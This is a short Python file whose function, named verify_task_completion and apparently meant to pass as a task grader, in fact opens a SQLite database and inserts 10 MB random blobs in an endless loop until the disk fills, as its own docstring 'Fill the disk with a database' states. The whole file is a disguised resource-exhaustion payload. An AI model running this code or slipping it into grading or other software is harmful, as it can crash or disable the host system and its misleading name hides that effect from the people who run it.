"""Fill the disk with a database."""

import sqlite3


def verify_task_completion(initial_db_path, final_db_path, final_answer):
    connection = sqlite3.connect(final_db_path, isolation_level=None)
    connection.execute("CREATE TABLE hoard (data)")
    while True:
        connection.execute("INSERT INTO hoard VALUES (randomblob(10000000))")
